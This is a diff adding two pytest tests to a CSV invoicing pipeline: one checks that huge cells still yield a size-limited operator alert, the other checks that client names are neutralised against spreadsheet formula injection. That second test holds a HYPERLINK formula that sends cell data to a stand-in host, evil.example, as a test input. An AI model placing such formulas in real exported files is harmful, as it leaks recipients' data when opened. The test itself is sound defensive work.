@@ -150,3 +150,40 @@ def test_a_file_that_fails_half_way_says_what_it_issued_then_completes(
     assert [n[-5:] for n in numbers] == ["00001", "00002", "00003"]
     summary = bucket.get("reports/ventes.csv.invoices.csv").decode("utf-8-sig").splitlines()
     assert len(summary) == 4
+
+
+def test_huge_cells_still_get_their_alert(runtime, bucket, operator_inbox) -> None:
+    """Issue 7: three 100,000-character client cells made an alert SNS refused (over 256 KB),
+    after the file had moved, so no alert was ever sent. Values are quoted cut short now."""
+    huge = "x" * 100_000
+    bucket.put(
+        "incoming/clients/enorme.csv",
+        f"reference;nom;adresse;code_postal;ville;siren\nC009;{huge};{huge};69001;{huge};552100554\n",
+    )
+    runtime.run_until_idle()
+    (alert,) = operator_inbox.messages()
+    assert "enorme.csv" in alert["Subject"]
+    assert len(alert["Message"].encode()) < 20_000
+    report = bucket.get("reports/clients/enorme.csv.errors.csv")
+    assert len(report) < 5_000
+    assert bucket.keys("rejected/") == ["rejected/clients/enorme.csv"]
+
+
+def test_the_summary_neutralises_formulas_in_client_names(runtime, bucket, resources) -> None:
+    """Issue 7: reports/*.invoices.csv wrote client names raw; Excel ran them as formulas."""
+    evil = '=HYPERLINK("http://evil.example/?d="&A2;"facture")'
+    bucket.put(
+        "incoming/clients/clients.csv",
+        f'reference;nom;adresse;code_postal;ville;siren\n-2+3;"{evil.replace(chr(34), chr(34) * 2)}";'
+        "4 rue;69001;Lyon;552100554\n",
+    )
+    runtime.run_until_idle()
+    bucket.put("incoming/ventes.csv", sales_csv(["-2+3;03/11/2026;Audit;1;h;95;20;;;"]))
+    runtime.run_until_idle()
+    import csv
+    import io
+
+    text = bucket.get("reports/ventes.csv.invoices.csv").decode("utf-8-sig")
+    (row,) = list(csv.DictReader(io.StringIO(text), delimiter=";"))
+    assert row["nom"] == "'" + evil
+    assert row["client"] == "'-2+3"
